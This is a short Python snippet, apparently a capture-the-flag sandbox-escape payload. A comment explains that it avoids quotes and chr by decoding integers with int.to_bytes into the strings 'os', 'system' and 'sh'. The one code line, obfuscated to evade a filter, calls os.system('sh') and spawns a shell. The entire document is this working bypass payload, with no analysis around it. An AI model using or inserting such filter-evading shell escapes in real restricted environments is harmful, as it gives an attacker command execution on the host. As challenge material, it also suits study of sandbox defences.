# restriction: no quotes, no chr; idea: int.to_bytes turns big integers into the byte strings os/system/sh
getattr(__import__(int.to_bytes(28531,2).decode()),int.to_bytes(126965465245037,6).decode())(int.to_bytes(29544,2).decode())
